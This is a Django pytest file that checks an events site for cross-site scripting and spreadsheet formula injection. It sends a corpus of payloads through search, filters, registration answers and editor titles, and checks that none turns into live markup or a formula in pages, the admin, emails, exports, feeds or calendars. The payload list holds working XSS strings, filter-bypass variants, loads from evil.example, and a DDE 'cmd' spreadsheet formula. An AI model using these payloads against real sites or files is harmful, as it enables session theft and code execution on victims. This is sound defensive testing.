"""A corpus of cross-site scripting payloads through every field people can fill in.

Each payload carries a marker (XSS1, XSS2, ...). It goes in through registration answers,
search, listing filters and editor-entered titles and teasers, and comes out in HTML pages,
the admin, emails, exports, feeds, calendars and JSON-LD. An *escape* is the marker found
where it would run: inside an element or attribute the payload created, in an event handler
or in a javascript: link, or as a formula in a spreadsheet. The count must be zero.
"""

import csv
import datetime
import io
import json
import xml.etree.ElementTree as ET

import pytest
from bs4 import BeautifulSoup
from icalendar import Calendar
from openpyxl import load_workbook

from django.contrib.auth import get_user_model
from django.core import mail
from django.test import Client
from django.utils import timezone

from events.models import Registration
from events.registration.emails import compose
from events.registration.export import FORMULA_STARTS
from events.registration.services import register_for_event
from tests.support.factories import make_event, make_insight

pytestmark = pytest.mark.django_db

TEMPLATES = [
    "<script>alert('{m}')</script>",
    "<SCRIPT SRC=//evil.example/{m}.js></SCRIPT>",
    "<img src=x onerror=alert('{m}')>",
    "<svg onload=alert('{m}')>",
    "<svg><script>alert('{m}')</script></svg>",
    "<iframe src=javascript:alert('{m}')>",
    "<body onload=alert('{m}')>",
    "<a href=\"javascript:alert('{m}')\">{m}</a>",
    "<a href=\"jav&#x09;ascript:alert('{m}')\">x</a>",
    '"><script>alert("{m}")</script>',
    "'><script>alert('{m}')</script>",
    "\" onmouseover=\"alert('{m}')",
    "' onfocus='alert(`{m}`)' autofocus='",
    '" autofocus onfocus=alert("{m}") x="',
    "</title><script>alert('{m}')</script>",
    "</textarea><script>alert('{m}')</script>",
    "</script><script>alert('{m}')</script>",
    "<style>@import 'http://evil.example/{m}.css';</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    "<details open ontoggle=alert('{m}')>",
    "<input autofocus onfocus=alert('{m}')>",
    "<object data=\"javascript:alert('{m}')\"></object>",
    "<embed src=\"javascript:alert('{m}')\">",
    "<base href=\"javascript:alert('{m}')//\">",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'{m}\')">',
    "<link rel=stylesheet href=javascript:alert('{m}')>",
    "<video><source onerror=\"alert('{m}')\"></video>",
    "<marquee onstart=alert('{m}')>",
    "javascript:alert('{m}')",
    "JaVaScRiPt:alert('{m}')",
    "data:text/html,<script>alert('{m}')</script>",
    "{{{{ 7*7 }}}}{m}",
    "{{% debug %}}{m}",
    "${{7*7}}{m}",
    "<!--{m}--><script>alert(1)</script>",
    "<![CDATA[<script>alert('{m}')</script>]]>",
    "\u003cscript\u003ealert('{m}')\u003c/script\u003e",
    "\uff1cscript\uff1ealert('{m}')\uff1c/script\uff1e",
    "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
    "%3Cscript%3Ealert('{m}')%3C/script%3E",
    "&lt;script&gt;alert('{m}')&lt;/script&gt;",
    "<img src=\"x` `<script>alert('{m}')</script>\"` `>",
    "\u202e<script>alert('{m}')</script>",
    "<form action=javascript:alert('{m}')><button>x</button></form>",
    "=cmd|' /C calc'!A0 {m}",
    '+HYPERLINK("http://evil.example/{m}")',
    "-2+3 {m}",
    "@SUM(1+1) {m}",
]
PAYLOADS = [template.format(m=f"XSS{number}") for number, template in enumerate(TEMPLATES, 1)]
MARKERS = [f"XSS{number}" for number in range(1, len(TEMPLATES) + 1)]
RUNNABLE_URL = ("javascript:", "vbscript:", "data:")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href"}


class Tally:
    """Counts of payloads tried per sink, and every escape found."""

    def __init__(self):
        self.tried = {}
        self.escapes = []

    def tried_one(self, sink):
        self.tried[sink] = self.tried.get(sink, 0) + 1

    def report(self):
        total = sum(self.tried.values())
        lines = [f"{sink}: {count}" for sink, count in sorted(self.tried.items())]
        print(f"XSS corpus: {len(PAYLOADS)} payloads, {total} checks, escapes: {self.escapes}")
        print("\n".join(lines))
        return total


def html_escapes(html, markers=MARKERS):
    """Places in an HTML document where a payload became markup instead of text."""
    soup = BeautifulSoup(html, "html.parser")
    found = []
    for tag in soup.find_all(True):
        if tag.name == "script" and tag.get("type") == "application/ld+json":
            continue  # checked on its own: data, never run
        attributes = " ".join(
            f"{name}={' '.join(value) if isinstance(value, list) else value}"
            for name, value in tag.attrs.items()
        )
        for marker in markers:
            if marker in tag.name:
                found.append(f"<{tag.name}>")
            for name, value in tag.attrs.items():
                text = " ".join(value) if isinstance(value, list) else str(value)
                if marker in name:
                    found.append(f"attribute {name}")
                elif marker in text and name.lower().startswith("on"):
                    found.append(f"handler {name}={text}")
                elif (
                    marker in text
                    and name.lower() in URL_ATTRIBUTES
                    and text.strip().lower().startswith(RUNNABLE_URL)
                ):
                    found.append(f"link {name}={text}")
            if (
                tag.name == "meta"
                and str(tag.get("http-equiv", "")).lower() == "refresh"
                and marker in str(tag.get("content", ""))
            ):
                found.append(f"refresh {tag.get('content')}")
            own_text = tag.string or ""
            if tag.name in ("script", "style") and (marker in own_text or marker in attributes):
                found.append(f"<{tag.name}> {own_text[:40]}")
    return found


@pytest.fixture
def tally():
    return Tally()


def test_search_and_filters_echo_every_payload_as_text(tally):
    """Each page shows what the visitor typed back to them, as text and never as markup."""
    client = Client()
    for payload, marker in zip(PAYLOADS, MARKERS, strict=True):
        for sink, url, params in (
            ("search", "/de/search/", {"q": payload}),
            ("event filters", "/en/events/", {"region": payload, "month": payload}),
            ("insight filters", "/fr/enseignements/", {"type": payload, "partner": payload}),
        ):
            response = client.get(url, params, follow=True)
            assert response.status_code == 200, (sink, payload)
            tally.tried_one(sink)
            page = BeautifulSoup(response.content, "html.parser")
            shown = " ".join(page.find("main").get_text(" ", strip=True).split())
            if sink == "search":
                # The heading names the query (quotes dropped) and the search box keeps it.
                assert "Ergebnisse für „" in shown and marker in shown, (sink, payload)
                assert marker in page.find("input", {"name": "q"})["value"], (sink, payload)
            else:
                # The message about the ignored filters quotes what was sent, in full.
                assert " ".join(payload.split()) in shown, (sink, payload)
            tally.escapes += [(sink, payload, e) for e in html_escapes(response.content, [marker])]
    assert tally.escapes == []


def on_site_with_text_question():
    return json.dumps(
        [
            {
                "type": "on_site",
                "value": {
                    "opens_at": None,
                    "closes_at": None,
                    "capacity": 1000,
                    "waiting_list": True,
                    "questions": [
                        {
                            "type": "item",
                            "id": "6c1d3a39-0000-4000-8000-0000000000aa",
                            "value": {
                                "label": "Erwartungen",
                                "help_text": "",
                                "kind": "long_text",
                                "options": [],
                                "required": False,
                            },
                        }
                    ],
                },
            }
        ]
    )


def test_registration_answers_stay_text_in_admin_emails_and_exports(
    tally, django_capture_on_commit_callbacks
):
    event = make_event(
        "Sicher anmelden",
        timezone.now() + datetime.timedelta(days=9),
        registration=on_site_with_text_question(),
    )
    with django_capture_on_commit_callbacks(execute=True):
        for number, payload in enumerate(PAYLOADS):
            register_for_event(
                event,
                language=("de", "en", "fr")[number % 3],
                name=payload[:120],
                email=f"person{number}@example.org",
                organisation=payload[:200],
                accessibility_needs=payload,
                answers={"6c1d3a39-0000-4000-8000-0000000000aa": payload},
            )
    assert Registration.objects.filter(event_key=event.translation_key).count() == len(PAYLOADS)

    client = Client()
    client.force_login(get_user_model().objects.get(username="admin"))
    # The admin: the list of registrations and each registration's own page.
    for registration in Registration.objects.filter(event_key=event.translation_key):
        marker = next(m for m in MARKERS if m in registration.accessibility_needs)
        page = client.get(f"/admin/registrations/{registration.pk}/manage/")
        assert page.status_code == 200
        tally.tried_one("admin registration page")
        tally.escapes += [("admin", marker, e) for e in html_escapes(page.content, [marker])]
    listing = client.get(
        "/admin/registrations/", {"event_key": str(event.translation_key), "per_page": 100}
    )
    assert listing.status_code == 200
    tally.tried_one("admin registration list")
    tally.escapes += [("admin list", e) for e in html_escapes(listing.content)]

    # Emails: the plain text as typed; in the HTML part, the payloads stay text.
    assert len(mail.outbox) == len(PAYLOADS)
    for message in mail.outbox:
        tally.tried_one("email")
        assert message.content_subtype == "plain"
        [(html, mimetype)] = message.alternatives
        assert mimetype == "text/html"
        tally.escapes += [("email HTML", message.to, e) for e in html_escapes(html)]
        for part in message.attachments:
            Calendar.from_ical(part.get_payload(decode=True))  # the calendar still parses
    sample = compose(Registration.objects.get(email="person0@example.org").messages.get())
    assert PAYLOADS[0] in sample.body  # the name as typed, as text

    # Exports: every cell is text a spreadsheet shows, never a formula it runs.
    csv_export = client.get(f"/admin/events/{event.pk}/registrations/export/?format=csv")
    rows = list(csv.reader(io.StringIO(csv_export.content.decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == len(PAYLOADS) + 1
    for row in rows[1:]:
        for cell in row:
            tally.tried_one("csv cell")
            if cell.startswith(FORMULA_STARTS):
                tally.escapes.append(("csv", cell))
    xlsx_export = client.get(f"/admin/events/{event.pk}/registrations/export/?format=xlsx")
    sheet = load_workbook(io.BytesIO(xlsx_export.content)).active
    for row in list(sheet.iter_rows())[1:]:
        for cell in row:
            tally.tried_one("xlsx cell")
            if cell.data_type == "f" or str(cell.value or "").startswith(FORMULA_STARTS):
                tally.escapes.append(("xlsx", cell.value))
    answers = [dict(zip(rows[0], row, strict=True))["Erwartungen"] for row in rows[1:]]
    assert "'=cmd|' /C calc'!A0 XSS45" in answers  # kept, visibly neutralised
    tally.report()
    assert tally.escapes == []


def test_editor_titles_and_teasers_stay_text_in_pages_feeds_calendars_and_json_ld(tally):
    events, insights = [], []
    start = timezone.now() + datetime.timedelta(days=3)
    for number, payload in enumerate(PAYLOADS):
        events.append(
            make_event(
                payload,
                start + datetime.timedelta(hours=number),
                slug=f"xss-event-{number}",
                teaser=payload,
            )
        )
        insights.append(make_insight(payload, slug=f"xss-insight-{number}", teaser=payload))
    client = Client()
    for page, payload, marker in zip(events, PAYLOADS, MARKERS, strict=True):
        response = client.get(page.url)
        assert response.status_code == 200
        tally.tried_one("event page")
        tally.escapes += [("event page", e) for e in html_escapes(response.content, [marker])]
        html = BeautifulSoup(response.content, "html.parser")
        # JSON-LD: the script element cannot be closed early, and reads back the same title.
        script = html.find("script", type="application/ld+json")
        tally.tried_one("json-ld")
        assert "</script" not in script.string.lower()
        assert json.loads(script.string)["name"] == payload
        assert html.title.get_text().startswith(payload.strip()[:20])
    for page, marker in zip(insights, MARKERS, strict=True):
        response = client.get(page.url)
        tally.tried_one("insight page")
        tally.escapes += [("insight page", e) for e in html_escapes(response.content, [marker])]
    for listing in ("/de/veranstaltungen/", "/de/erkenntnisse/", "/de/"):
        tally.tried_one("listing")
        tally.escapes += [(listing, e) for e in html_escapes(client.get(listing).content)]

    # Feeds: well-formed XML whose titles read back exactly as entered.
    for url in ("/de/erkenntnisse/feed/rss/", "/de/erkenntnisse/feed/atom/"):
        tree = ET.fromstring(client.get(url).content)
        titles = {
            element.text
            for element in tree.iter()
            if element.tag.rsplit("}", 1)[-1] == "title" and element.text
        }
        # The feed lists the newest 30; each of them reads back exactly as entered.
        ours = [title for title in titles if any(marker in title for marker in MARKERS)]
        assert len(ours) == 30
        for title in ours:
            tally.tried_one("feed")
            if title not in PAYLOADS and title not in {p.strip() for p in PAYLOADS}:
                tally.escapes.append((url, "title changed", title))
        for element in tree.iter():
            if element.tag.rsplit("}", 1)[-1] in ("script", "img", "svg", "iframe"):
                tally.escapes.append((url, element.tag))

    # Calendars: one VEVENT per event, each summary exactly the title (iCal escaping).
    calendar = Calendar.from_ical(client.get("/de/veranstaltungen/calendar/").content)
    summaries = {str(component["summary"]) for component in calendar.walk("VEVENT")}
    for payload in PAYLOADS:
        tally.tried_one("ical")
        if payload not in summaries and payload.strip() not in summaries:
            tally.escapes.append(("ical", payload))
    tally.report()
    assert tally.escapes == []
